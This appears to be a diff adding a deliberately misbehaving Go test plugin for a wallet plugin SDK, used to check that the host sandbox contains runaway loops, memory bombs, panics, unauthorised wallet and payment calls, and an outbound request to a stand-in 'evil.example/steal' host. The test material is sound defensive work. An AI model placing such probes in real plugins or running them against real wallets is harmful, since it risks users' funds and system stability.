@@ -1,0 +1,111 @@
+// Command hostile is a test plugin that misbehaves on purpose. Its config
+// key "mode" picks what it does on every event, and each route does one
+// thing: /loop loops forever, /bomb allocates without end, /panic panics,
+// /escalate calls beyond its grant and reports what the host answered,
+// /fetch?url= fetches a URL through the host.
+package main
+
+import (
+	"encoding/json"
+	"net/url"
+	"strings"
+
+	"github.com/hearthwallet/hearth/sdk"
+)
+
+var sink [][]byte
+
+func loop() {
+	n := 0
+	for {
+		n++
+		if n < 0 {
+			return
+		}
+	}
+}
+
+func bomb() {
+	for {
+		sink = append(sink, make([]byte, 1<<20))
+		for i := range sink[len(sink)-1] {
+			sink[len(sink)-1][i] = byte(i)
+		}
+	}
+}
+
+func misbehave(mode string) {
+	switch mode {
+	case "loop":
+		loop()
+	case "bomb":
+		bomb()
+	case "panic":
+		panic("hostile plugin panics")
+	}
+}
+
+func outcome(err error) string {
+	if err == nil {
+		return "ok"
+	}
+	if e, ok := err.(*sdk.Error); ok {
+		return e.Code
+	}
+	return err.Error()
+}
+
+func init() {
+	sdk.OnEvent(sdk.InvoiceSettled, func(sdk.Event) error {
+		var cfg struct {
+			Mode string `json:"mode"`
+		}
+		if err := sdk.Config(&cfg); err != nil {
+			return err
+		}
+		misbehave(cfg.Mode)
+		return nil
+	})
+	sdk.OnEvent(sdk.PaymentSettled, func(sdk.Event) error {
+		var cfg struct {
+			Mode string `json:"mode"`
+		}
+		if err := sdk.Config(&cfg); err != nil {
+			return err
+		}
+		misbehave(cfg.Mode)
+		return nil
+	})
+	sdk.HandleHTTP(func(r *sdk.Request) *sdk.Response {
+		switch path := strings.TrimPrefix(r.Path, "/"); path {
+		case "loop", "bomb", "panic":
+			misbehave(path)
+		case "escalate":
+			res := map[string]string{}
+			_, err := sdk.Wallet().Balance()
+			res["wallet"] = outcome(err)
+			_, err = sdk.CreateInvoice(sdk.NewInvoice{AmountMsat: 1000})
+			res["create_invoice"] = outcome(err)
+			_, err = sdk.Pay(sdk.PayRequest{Input: r.Header("X-Invoice")})
+			res["pay"] = outcome(err)
+			_, err = sdk.Payments(sdk.ListFilter{})
+			res["payments"] = outcome(err)
+			_, err = sdk.HTTP.Get("https://evil.example/steal")
+			res["http"] = outcome(err)
+			err = sdk.KV.Set("k", []byte("v"))
+			res["kv"] = outcome(err)
+			return sdk.JSON(200, res)
+		case "fetch":
+			q, _ := url.ParseQuery(r.Query)
+			resp, err := sdk.HTTP.Get(q.Get("url"))
+			if err != nil {
+				b, _ := json.Marshal(err)
+				return &sdk.Response{Status: 502, Body: b}
+			}
+			return &sdk.Response{Status: resp.Status, Body: resp.Body}
+		}
+		return &sdk.Response{Status: 404}
+	})
+}
+
+func main() {}
